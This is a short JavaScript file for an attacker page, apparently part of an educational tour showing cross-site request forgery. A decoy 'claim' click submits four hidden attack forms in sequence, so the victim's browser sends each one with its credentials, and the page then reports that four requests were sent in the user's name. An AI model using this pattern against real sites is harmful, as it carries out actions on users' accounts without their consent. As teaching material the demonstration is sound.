// The attacker's page: one innocent click, four forms. The browser adds to each what it always adds.

const forms = document.querySelectorAll('form.attack');
const next = Number(new URLSearchParams(location.search).get('next') ?? '-1');

document.getElementById('claim').addEventListener('click', () => forms[0].submit());
if (next >= 0 && next < forms.length - 1) {
  forms[next].submit();
} else if (next >= 0) {
  document.querySelector('iframe').addEventListener('load', finish, { once: true });
  forms[forms.length - 1].submit();
}

function finish() {
  document.getElementById('claim').hidden = true;
  document.getElementById('offer').hidden = true;
  document.getElementById('done').textContent = 'Four requests were sent in your name. The tour knows what became of them.';
  document.getElementById('back').hidden = false;
}
